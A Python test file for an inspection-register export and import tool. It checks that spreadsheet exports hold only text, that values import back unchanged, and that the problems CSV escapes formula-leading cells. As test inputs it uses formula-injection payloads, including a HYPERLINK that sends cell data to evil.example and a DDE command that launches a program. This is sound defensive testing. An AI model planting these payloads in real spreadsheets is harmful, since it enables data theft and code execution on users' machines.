"""Exports hold text only (no live formulas) and import back unchanged; templates' example
rows cannot pass for data; the problems CSV carries nothing Excel would run."""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from openpyxl.utils import get_column_letter
from sqlalchemy import select

from bot.registers.exporter import XlsxWriter, write_template
from bot.registers.reader import open_table
from bot.registers.report import ImportReport, issues_csv
from bot.registers.schema import (
    CONFLICTS,
    INSPECTORS,
    ITEMS,
    REGISTERS,
    TARGETS,
    Register,
    is_example_row,
)
from bot.registers.values import Invalid, Problem, parser_for
from bot.services.registers import export_register, import_register
from bot.texts import get_texts
from storage.database import Database
from storage.models import CreditClass, Inspector, ItemCategory
from tests.registers_data import REAL_USCCS

EXAMPLES = Path(__file__).resolve().parents[1] / "examples"

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "=cmd|' /C calc'!A0",
    "=1+1",
    "+1",
    "-2+3",
    "@SUM(A1)",
    "#N/A",
    "=",
]

ROWS: dict[str, list[dict[str, Any]]] = {
    "targets": [
        {
            "uscc": REAL_USCCS[i],
            "name": name,
            "entity_type": "企业",
            "region": "柏城街道",
            "industry": "=A1",
            "address": "西平县人民路 88 号",
            "longitude": 113.9 + 0.2,  # 114.10000000000001: every digit must come back
            "latitude": 33.38,
            "legal_representative": "",
            "phone": "13800000000",
            "registration_authority": "西平县市场监督管理局",
            "registration_status": "存续",
            "established_on": date(2015, 6, 18),
            "credit_class": CreditClass.B,
            "blacklisted": i % 2 == 0,
            "abnormal_listed": False,
            "last_inspected_on": None,
        }
        for i, name in enumerate(HOSTILE[:5])
    ],
    "items": [
        {
            "code": f"=XPCZ-00{i}",
            "name": name,
            "category": ItemCategory.KEY if i % 2 else ItemCategory.GENERAL,
            "legal_basis": "《中华人民共和国会计法》第三十三条",
            "enforcement_body": "西平县财政局",
            "inspecting_body": "-",
            "target_scope": "辖区内企业",
            "content": "=SUM(1,2)",
            "ratio_note": "3%",
            "frequency": "每年 1 次",
            "methods": ["实地检查", "=书面检查"],
            "inspector_requirements": "",
            "department": "@会计股",
        }
        for i, name in enumerate(HOSTILE)
    ],
    "inspectors": [
        {
            "name": name,
            "staff_no": f"XP{i:03d}" if i else "",
            "department": "会计股",
            "position": "+股长",
            "region": "西平县",
            "certificate_no": f"4117212020{i:04d}",
            "certificate_expires_on": date(2028, 12, 31) if i else None,
            "phone": f"1390000{i:04d}",
            "expertise": ["会计", "审计"] if i % 2 else [],
            "is_expert": bool(i % 2),
            "active": i != 3,
        }
        for i, name in enumerate(HOSTILE)
    ],
    "conflicts": [
        {"certificate_no": "=41172120200001", "uscc": REAL_USCCS[0], "reason": "=配偶"},
        {"certificate_no": "41172120200002", "uscc": REAL_USCCS[1], "reason": ""},
    ],
}


def _export(register: Register, rows: list[dict[str, Any]], path: Path) -> Path:
    writer = XlsxWriter(register, "导出")
    for row in rows:
        writer.append(row)
    writer.save(path)
    return path


def _read_back(register: Register, path: Path) -> list[dict[str, Any]]:
    """The file's rows as the importer parses them."""
    table = open_table(path, register)
    parsers = [(i, c.field, parser_for(c)) for i, c in table.columns.items()]
    records = []
    for _number, cells in table.rows:
        try:
            records.append({name: parse(cells[i]) for i, name, parse in parsers})
        except Invalid as exc:  # pragma: no cover - shows which value failed
            raise AssertionError(exc.problem) from exc
    return records


@pytest.mark.parametrize("name", list(REGISTERS))
def test_exports_hold_text_only(tmp_path: Path, name: str) -> None:
    path = _export(REGISTERS[name], ROWS[name], tmp_path / f"{name}.xlsx")
    sheet = load_workbook(path).worksheets[0]  # not data_only: formulas would show as such
    values = 0
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            if cell.value is None:
                continue
            values += 1
            assert cell.data_type == "s", (cell.coordinate, cell.value)
            assert isinstance(cell.value, str), (cell.coordinate, cell.value)
            assert cell.number_format == "@", cell.coordinate
    assert values > len(ROWS[name]) * 2
    letters = [get_column_letter(i) for i in range(1, len(REGISTERS[name].columns) + 1)]
    assert all(sheet.column_dimensions[c].number_format == "@" for c in letters)


@pytest.mark.parametrize("name", list(REGISTERS))
def test_exports_read_back_unchanged(tmp_path: Path, name: str) -> None:
    register = REGISTERS[name]
    path = _export(register, ROWS[name], tmp_path / f"{name}.xlsx")
    assert _read_back(register, path) == ROWS[name]


def test_hostile_values_are_written_as_they_are(tmp_path: Path) -> None:
    path = _export(ITEMS, ROWS["items"], tmp_path / "items.xlsx")
    sheet = load_workbook(path).worksheets[0]
    names = [row[1].value for row in sheet.iter_rows(min_row=2)]
    assert names == HOSTILE
    dates = load_workbook(_export(TARGETS, ROWS["targets"], tmp_path / "t.xlsx")).worksheets[0]
    assert dates["M2"].value == "2015-06-18"
    assert dates["G2"].value == "114.10000000000001"
    assert dates["O2"].value == "是"


async def test_an_inspector_named_like_a_formula_survives_export_and_import(
    db: Database, tmp_path: Path
) -> None:
    source = tmp_path / "i.csv"
    with source.open("w", encoding="utf-8", newline="") as stream:
        writer = csv.writer(stream)
        writer.writerow(["姓名", "执法证号", "有效期至", "手机号码"])
        for i, name in enumerate(HOSTILE):
            writer.writerow([name, f"4117212020{i:04d}", "2028-12-31", f"1390000{i:04d}"])
    async with db.session() as session:
        first = await import_register(
            session, "inspectors", source, actor=1, today=date(2026, 1, 1)
        )
    assert first.ok and first.added == len(HOSTILE)
    export = tmp_path / "export.xlsx"
    async with db.session() as session:
        await export_register(session, "inspectors", "检查人员名录", export)
    async with db.session() as session:
        again = await import_register(
            session, "inspectors", export, actor=1, today=date(2026, 1, 1)
        )
    assert again.ok, again.errors
    assert (again.unchanged, again.updated, again.added) == (len(HOSTILE), 0, 0)
    async with db.session() as session:
        names = set(await session.scalars(select(Inspector.name)))
    assert names == set(HOSTILE)


# --- templates ----------------------------------------------------------------------------------


@pytest.mark.parametrize("name", list(REGISTERS))
def test_a_template_left_as_it_is_is_an_example_row(tmp_path: Path, name: str) -> None:
    register = REGISTERS[name]
    path = tmp_path / f"{name}.xlsx"
    write_template(register, "模板", path)
    (record,) = _read_back(register, path)  # the example row parses as valid data
    assert is_example_row(register, record)
    changed = {**record, register.key[0]: "41172120200001" if name != "targets" else REAL_USCCS[0]}
    assert not is_example_row(register, changed)


def test_example_keys_cannot_be_real_data() -> None:
    keys = {TARGETS.column("uscc").example, ITEMS.column("code").example,
            INSPECTORS.column("certificate_no").example}  # fmt: skip
    assert CONFLICTS.column("uscc").example == TARGETS.column("uscc").example
    assert CONFLICTS.column("certificate_no").example == INSPECTORS.column("certificate_no").example
    assert ITEMS.column("code").example.startswith("示例")
    assert INSPECTORS.column("certificate_no").example.startswith("示例")
    assert "EXAMPLE" in TARGETS.column("uscc").example
    sample = (EXAMPLES / "targets.csv").read_text("utf-8-sig")
    sample += (EXAMPLES / "conflicts.csv").read_text("utf-8-sig")
    for name in ("items.xlsx", "inspectors.xlsx"):
        for row in load_workbook(EXAMPLES / name).worksheets[0].iter_rows(values_only=True):
            sample += ",".join(str(v) for v in row) + "\n"
    for key in keys:
        assert key not in sample, key
    assert "XPCZ-001" in sample, "the sample data is what the old example collided with"


def test_real_rows_are_not_example_rows() -> None:
    for name, rows in ROWS.items():
        assert not any(is_example_row(REGISTERS[name], row) for row in rows)


# --- the problems CSV ---------------------------------------------------------------------------


def test_problems_csv_cells_never_start_like_a_formula() -> None:
    report = ImportReport("targets")
    report.error(5, "=SUM(A1)", Problem.of("out_of_range", value="-5", low=73.0, high=136.0))
    report.error(6, "名称", Problem.of("bad_number", value="=1+1"))
    report.warn(None, None, Problem.of("unknown_columns", columns="@x"))
    report.error(None, None, Problem.of("too_compressed", part="=cmd|' /C calc'!A0", ratio=900,
                                        limit=100))  # fmt: skip
    for language in ("zh-CN", "en"):
        text = issues_csv(report, get_texts(language)).decode("utf-8-sig")
        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")], cells
        assert "'=SUM(A1)" in cells
        assert any(c.startswith("'-5 ") for c in cells)
        assert any("=cmd|' /C calc'!A0" in c for c in cells)
